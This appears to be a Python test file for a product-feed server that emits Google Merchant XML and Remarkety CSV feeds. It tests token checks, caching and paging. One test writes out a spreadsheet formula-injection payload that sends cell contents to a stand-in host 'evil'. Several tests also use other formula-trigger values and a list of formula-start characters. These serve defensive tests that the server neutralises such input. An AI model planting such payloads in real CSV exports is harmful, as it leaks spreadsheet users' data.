"""The product feeds over real HTTP: the real app under uvicorn on loopback, a real SQLite file.

The XML is checked against the Google Merchant namespace and parsed back with xml.etree,
every field; the CSV is parsed back with the csv module. Tokens, conditional requests,
paging through a catalog larger than a page, and (by property) any text a page may send.
"""

from __future__ import annotations

import csv
import email.utils
import io
import json
import logging
import uuid
import xml.etree.ElementTree as ET
from typing import Any

import httpx
from hypothesis import given, settings, strategies as st

from fakes.harness import serve
from server import feeds, logs
from support import ORIGIN, settings_for

TOKEN = "feed-token-0123456789abcdef"
G = "{http://base.google.com/ns/1.0}"
API_KEY = "secret-key-0123456789"


def item(item_id: str, price: Any = "12.34", **extra: Any) -> dict[str, Any]:
    return {"item_id": item_id, "item_name": f"Product {item_id}", "price": price,
            "item_url": f"https://shop.example/p/{item_id}",
            "image_url": f"https://shop.example/i/{item_id}.jpg", **extra}


def update(*items: dict[str, Any], currency: str = "USD") -> dict[str, Any]:
    return {"event": "product_updated", "event_id": str(uuid.uuid4()),
            "ecommerce": {"currency": currency, "items": list(items)}}


async def backend_api(client: httpx.AsyncClient, *evts: dict[str, Any]) -> None:
    answer = await client.post("/api/v1/sites/shop1/events", json=list(evts),
                               headers={"Authorization": f"Bearer {API_KEY}"})
    assert answer.status_code == 202, answer.text


async def browser(client: httpx.AsyncClient, *evts: dict[str, Any]) -> None:
    body = json.dumps({"site_id": "shop1", "events": list(evts)})
    answer = await client.post("/e", content=body, headers={"content-type": "text/plain",
                                                            "origin": ORIGIN})
    assert answer.status_code == 204, answer.text


class Feed:
    def __init__(self, where: Any, **site: Any):
        """``where``: a tmp_path (SQLite), or a tests/backends.py Backend (either store)."""
        site = {"feed_token": TOKEN, **site}
        self.settings = (where.settings(**site) if hasattr(where, "settings")
                         else settings_for(where, **site))

    async def __aenter__(self) -> httpx.AsyncClient:
        self._serve = serve(self.settings)
        app = await self._serve.__aenter__()
        self._client = httpx.AsyncClient(base_url=app.state.base_url, timeout=30)
        return self._client

    async def __aexit__(self, *exc: Any) -> None:
        await self._client.aclose()
        await self._serve.__aexit__(*exc)


def xml_items(text: str) -> dict[str, dict[str, str]]:
    """Each <item> of the feed as {tag without the g: prefix: text}, by g:id. Only tags in
    Google's namespace are taken: anything else would fail the comparisons."""
    root = ET.fromstring(text)
    assert root.tag == "rss" and root.attrib == {"version": "2.0"}
    [channel] = root
    assert channel.tag == "channel"
    found = {}
    for element in channel.findall("item"):
        fields = {}
        for child in element:
            assert child.tag.startswith(G), child.tag
            fields[child.tag[len(G):]] = child.text
        found[fields["id"]] = fields
    return found


async def test_the_xml_feed_is_google_merchant_rss_with_every_field(backend):  # both backends
    async with Feed(backend) as client:
        await backend_api(client, update(item("MUG-1", "12.34", item_category="Kitchen",
                                          item_category2="Mugs", item_brand="Acme & Sons",
                                          item_group_id="MUG", description="A <fine> mug",
                                          google_product_category="Home & Garden > Kitchen",
                                          availability="preorder"),
                                     item("MUG-2", "5", in_stock=False)))
        await backend_api(client, update(item("YEN-1", "500"), currency="JPY"))
        answer = await client.get(f"/feeds/shop1/products.xml?token={TOKEN}")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/rss+xml; charset=utf-8"
    assert answer.text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n'
                                  '<rss version="2.0" xmlns:g="http://base.google.com/ns/1.0">')
    root = ET.fromstring(answer.text)
    channel = root.find("channel")
    assert channel.findtext("title") == "shop1 products"
    assert channel.findtext("link") == ORIGIN
    assert xml_items(answer.text) == {
        "MUG-1": {"id": "MUG-1", "title": "Product MUG-1", "description": "A <fine> mug",
                  "link": "https://shop.example/p/MUG-1",
                  "image_link": "https://shop.example/i/MUG-1.jpg", "availability": "preorder",
                  "price": "12.34 USD", "brand": "Acme & Sons",
                  "product_type": "Kitchen > Mugs",
                  "google_product_category": "Home & Garden > Kitchen", "item_group_id": "MUG"},
        "MUG-2": {"id": "MUG-2", "title": "Product MUG-2", "link": "https://shop.example/p/MUG-2",
                  "image_link": "https://shop.example/i/MUG-2.jpg",
                  "availability": "out_of_stock", "price": "5.00 USD"},
        "YEN-1": {"id": "YEN-1", "title": "Product YEN-1", "link": "https://shop.example/p/YEN-1",
                  "image_link": "https://shop.example/i/YEN-1.jpg", "availability": "in_stock",
                  "price": "500 JPY"},
    }


async def test_the_csv_feed_has_remarketys_columns(backend):  # both backends
    async with Feed(backend) as client:
        await backend_api(client, update(item("MUG-1", "12.34", item_category="Kitchen",
                                          item_category2="Mugs|Cups", item_brand="Acme",
                                          item_group_id="MUG", item_sku="M-1",
                                          description='A "fine", mug\nwith two lines',
                                          availability="backorder"),
                                     item("MUG-2", "5", in_stock=False)))
        answer = await client.get(f"/feeds/shop1/products.csv?token={TOKEN}")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
    assert list(rows[0]) == list(feeds.CSV_COLUMNS)
    assert rows == [
        {"id": "MUG-1", "item_group_id": "MUG", "title": "Product MUG-1",
         "description": 'A "fine", mug\nwith two lines', "link": "https://shop.example/p/MUG-1",
         "image_link": "https://shop.example/i/MUG-1.jpg", "sku": "M-1",
         "availability": "in stock", "price": "12.34 USD", "brand": "Acme",
         "product_type": "Kitchen|Mugs/Cups", "google_product_category": ""},
        {"id": "MUG-2", "item_group_id": "", "title": "Product MUG-2", "description": "",
         "link": "https://shop.example/p/MUG-2", "image_link": "https://shop.example/i/MUG-2.jpg",
         "sku": "", "availability": "out of stock", "price": "5.00 USD", "brand": "",
         "product_type": "", "google_product_category": ""}]


async def test_a_claimed_title_is_no_formula_in_the_csv(tmp_path):
    """A page claimed the title ``=HYPERLINK("http://evil/?"&A1,"x")``: it was written raw,
    and a spreadsheet opening products.csv ran it. Now every such free-text cell starts with
    a '; a product whose id would open as one is not in products.csv at all."""
    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
    async with Feed(tmp_path) as client:
        await browser(client, {"event": "view_item", "event_id": str(uuid.uuid4()),
                               "ecommerce": {"currency": "USD", "items": [
                                   item("EVIL-1", item_name=evil, item_brand="+1",
                                        item_category="-2", description="=1+1"),
                                   item("@SUM(1+1)*cmd")]}})
        answer = await client.get(f"/feeds/shop1/products.csv?token={TOKEN}")
    assert answer.status_code == 200, answer.text
    [row] = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
    assert (row["id"], row["title"], row["brand"], row["product_type"], row["description"]) == (
        "EVIL-1", "'" + evil, "'+1", "'-2", "'=1+1")


async def test_csv_ids_are_the_events_ids_or_the_product_is_left_out(tmp_path):
    """Remarkety matches the product_id/sku of orders, carts and product views to the feed's
    ("the product id/sku should match a product from the products feed"): id, sku and
    item_group_id are written exactly as events name them, never with a leading '. A
    product whose identifier would open as a spreadsheet formula is left out of products.csv
    (a wrong id in it is no better: the vendor's id would match nothing); products.xml,
    which no spreadsheet runs, lists it as it is."""
    async with Feed(tmp_path) as client:
        await backend_api(client, update(item("A-1", item_sku="A-1-S", item_group_id="A",
                                              item_name="-50% mug"),
                                         item("-123"), item("B-2", item_sku="+44"),
                                         item("C-3", item_group_id="@group")))
        answer = await client.get(f"/feeds/shop1/products.csv?token={TOKEN}")
        xml = await client.get(f"/feeds/shop1/products.xml?token={TOKEN}")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
    assert [(r["id"], r["sku"], r["item_group_id"], r["title"]) for r in rows] == [
        ("A-1", "A-1-S", "A", "'-50% mug")]
    assert sorted(xml_items(xml.text)) == ["-123", "A-1", "B-2", "C-3"]


async def test_products_without_a_link_or_image_and_deleted_ones_are_left_out(backend):  # both backends
    async with Feed(backend) as client:
        await backend_api(client, update(item("OK"), {**item("NO-URL"), "item_url": None},
                                     {**item("NO-IMAGE"), "image_url": None},
                                     item("GONE")))
        await backend_api(client, update({"item_id": "GONE", "deleted": True}))
        # A page's view of a product with everything: a claim, and in the feed.
        await browser(client, {"event": "view_item", "event_id": str(uuid.uuid4()),
                               "ecommerce": {"currency": "USD", "items": [item("PAGE")]}})
        xml = await client.get(f"/feeds/shop1/products.xml?token={TOKEN}")
        text = await client.get(f"/feeds/shop1/products.csv?token={TOKEN}")
    assert sorted(xml_items(xml.text)) == ["OK", "PAGE"]
    assert [row["id"] for row in csv.DictReader(io.StringIO(text.text))] == ["OK", "PAGE"]


async def test_the_feed_token_guards_the_feed(backend):  # both backends
    async with Feed(backend) as client:
        for path in ("products.xml", "products.csv"):
            assert (await client.get(f"/feeds/shop1/{path}")).status_code == 403
            wrong = await client.get(f"/feeds/shop1/{path}?token={TOKEN[:-1]}x")
            assert wrong.status_code == 403 and wrong.json()["errors"][0]["field"] == "token"
            assert TOKEN not in wrong.text
            longer = await client.get(f"/feeds/shop1/{path}?token={TOKEN}0")
            assert longer.status_code == 403
            assert (await client.get(f"/feeds/shop1/{path}?token={TOKEN}")).status_code == 200
            unknown = await client.get(f"/feeds/shop9/{path}?token={TOKEN}")
            assert unknown.status_code == 404 and unknown.json()["errors"][0]["field"] == "site"


async def test_no_feed_without_a_token_configured(backend):  # both backends
    async with Feed(backend, feed_token=None) as client:
        answer = await client.get("/feeds/shop1/products.xml?token=")
    assert answer.status_code == 404
    assert answer.json()["errors"][0]["field"] == "feed_token"
    assert "sites[shop1].feed_token" in answer.json()["message"]


async def test_etag_and_last_modified_answer_304_until_the_catalog_changes(backend):  # both backends
    url = f"/feeds/shop1/products.xml?token={TOKEN}"
    async with Feed(backend) as client:
        await backend_api(client, update(item("A")))
        first = await client.get(url)
        tag, modified = first.headers["etag"], first.headers["last-modified"]
        assert email.utils.parsedate_to_datetime(modified) is not None
        again = await client.get(url, headers={"If-None-Match": tag})
        assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == tag
        assert (await client.get(url, headers={"If-None-Match": f'"x", W/{tag}'})).status_code == 304
        assert (await client.get(url, headers={"If-Modified-Since": modified})).status_code == 304
        assert (await client.get(url, headers={"If-Modified-Since": "not a date"})).status_code == 200
        old = email.utils.formatdate(0, usegmt=True)
        assert (await client.get(url, headers={"If-Modified-Since": old})).status_code == 200
        # The CSV has its own tag; a page view of a known product changes nothing ...
        csv_tag = (await client.get(url.replace(".xml", ".csv"))).headers["etag"]
        assert csv_tag != tag
        await browser(client, {"event": "view_item", "event_id": str(uuid.uuid4()),
                               "ecommerce": {"currency": "USD", "items": [item("A")]}})
        assert (await client.get(url, headers={"If-None-Match": tag})).status_code == 304
        # ... and a change of the catalog does.
        await backend_api(client, update(item("A", "99.00")))
        changed = await client.get(url, headers={"If-None-Match": tag})
    assert changed.status_code == 200 and changed.headers["etag"] != tag
    assert xml_items(changed.text)["A"]["price"] == "99.00 USD"


async def test_a_catalog_larger_than_a_page_streams_whole_and_in_order(backend):  # both backends
    count = 2 * feeds.PAGE + 7
    ids = [f"SKU-{n:05d}" for n in range(count)]
    async with Feed(backend) as client:
        for start in range(0, count, 150):  # an event is at most 32 KiB
            await backend_api(client, update(*[item(i) for i in ids[start:start + 150]]))
        async with client.stream("GET", f"/feeds/shop1/products.xml?token={TOKEN}") as answer:
            assert answer.status_code == 200
            assert "content-length" not in answer.headers  # streamed
            chunks = [chunk async for chunk in answer.aiter_bytes()]
        text = await client.get(f"/feeds/shop1/products.csv?token={TOKEN}")
    assert [element.findtext(f"{G}id") for element in
            ET.fromstring(b"".join(chunks)).iter("item")] == ids
    assert [row["id"] for row in csv.DictReader(io.StringIO(text.text))] == ids


def test_the_token_never_reaches_the_access_log():
    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1,
                               '%s - "%s %s HTTP/%s" %d',
                               ("127.0.0.1:5000", "GET", f"/feeds/shop1/products.xml?token={TOKEN}",
                                "1.1", 200), None)
    for formatter in (logs.TextFormatter(), logs.JsonFormatter()):
        line = formatter.format(record)
        assert TOKEN not in line and "token=[redacted]" in line


# Any text a page may send, by property ---------------------------------------------------

TEXT = st.text(st.characters(codec="utf-8"), max_size=40)


@settings(max_examples=300, deadline=None)
@given(title=TEXT, description=TEXT, brand=TEXT, categories=st.lists(TEXT, max_size=3))
def test_any_text_makes_a_feed_that_parses_back(title, description, brand, categories):
    row = {"item_id": "A&<1>", "title": title or "t", "description": description or None,
           "item_url": "https://shop.example/p?a=1&b=2", "image_url": "https://shop.example/i",
           "price_minor": 1234, "currency": "EUR", "availability": None, "brand": brand or None,
           "categories": categories, "google_product_category": None, "item_group_id": None,
           "sku": None}
    document = feeds.xml_head("shop & co", "https://shop.example") + feeds.xml_item(row) + \
        feeds.XML_TAIL
    [got] = xml_items(document).values()
    assert got["id"] == "A&<1>" and got["link"] == row["item_url"]
    assert got.get("title") == (feeds.clean(row["title"]) or None)
    assert got.get("description") == (feeds.clean(description) or None if description else None)
    assert got["price"] == "12.34 EUR"
    line = feeds._csv_line(feeds.csv_row(row))
    [parsed] = list(csv.reader(io.StringIO(line, newline="")))
    assert parsed[0] == "A&<1>" and parsed[2] == unformula(feeds.clean(row["title"]))
    assert parsed[10] == unformula("|".join(feeds.clean(c.replace("|", "/")) for c in categories))
    # No cell opens as a spreadsheet formula; a cell that would have starts with a ' instead.
    assert not any(cell.startswith(FORMULA) for cell in parsed), parsed


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def unformula(text: str) -> str:
    """What the CSV must hold for ``text``: a leading ' before a formula's first character."""
    return "'" + text if text.startswith(FORMULA) else text


@settings(max_examples=300, deadline=None)
@given(start=st.sampled_from(FORMULA + ("'", " ", "a", "")), text=TEXT)
def test_no_csv_cell_opens_as_a_formula_and_ids_are_exact(start, text):
    value = start + text or "x"
    row = {"item_id": value, "title": value, "description": value,
           "item_url": "https://shop.example/p", "image_url": "https://shop.example/i",
           "price_minor": 1, "currency": "EUR", "availability": None, "brand": value,
           "categories": [value], "google_product_category": value, "item_group_id": value,
           "sku": value}
    if feeds.clean(value).startswith(FORMULA):
        # Identifiers that would open as a formula: the product is not in the file at all.
        assert feeds.csv_line(row) == ""
        row = {**row, "item_id": "ID-1", "item_group_id": None, "sku": "S-1"}
    [parsed] = list(csv.reader(io.StringIO(feeds.csv_line(row), newline="")))
    assert not any(cell.startswith(FORMULA) for cell in parsed), parsed
    # The identifiers exactly (what events name the product by); free text made inert.
    assert (parsed[0], parsed[1], parsed[6]) == (feeds.clean(row["item_id"]),
                                                 feeds.clean(row["item_group_id"] or ""),
                                                 feeds.clean(row["sku"]))
    expected = unformula(feeds.clean(value))
    assert parsed[2:4] + parsed[9:10] + parsed[11:] == [expected] * 4
    assert parsed[10] == unformula(feeds.clean(value.replace("|", "/")))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_conditional_headers_never_fail(header):
    tag = '"abc"'
    assert isinstance(feeds.etag_matches(header, tag), bool)
    when = feeds.http_date_seconds(header)
    assert when is None or isinstance(when, int)
